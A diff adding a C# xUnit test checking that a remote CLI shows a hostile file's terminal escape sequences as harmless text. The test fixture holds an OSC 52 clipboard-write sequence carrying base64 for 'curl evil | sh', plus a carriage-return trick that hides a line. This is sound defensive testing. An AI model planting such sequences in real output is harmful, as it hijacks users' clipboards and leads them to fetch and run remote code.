@@ -65,6 +65,25 @@ public sealed class RemoteCliRegistryTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task Read_ShowsAHostileFileAsText_AndJsonKeepsItsExactContent()
+    {
+        // A file on a compromised client holds escape sequences (clipboard write, title change, a CR that hides the line).
+        var path = Path.Combine(_hub.RemoteDir, "motd");
+        const string hostile = "welcome\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\nsafe\rforged\n";
+        File.WriteAllText(path, hostile);
+
+        Assert.Equal(0, await RunAsync("read", path, "--client", "web-01"));
+        var shown = _out.ToString();
+        Assert.DoesNotContain('\u001b', shown);
+        Assert.DoesNotContain('\u0007', shown);
+        Assert.Contains(@"welcome\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" + "\r\n" + @"safe\x0dforged" + "\n", shown, StringComparison.Ordinal);
+
+        _out.GetStringBuilder().Clear();
+        Assert.Equal(0, await RunAsync("read", path, "--client", "web-01", "--json"));
+        Assert.Equal(hostile, Assert.Single(JsonLines()).GetProperty("content").GetString());
+    }
+
+    [Fact]
     public async Task AReadersWrite_IsRefused_NamingTheRole_AndNothingIsWritten()
     {
         _hub.Role = OperatorRole.Reader;
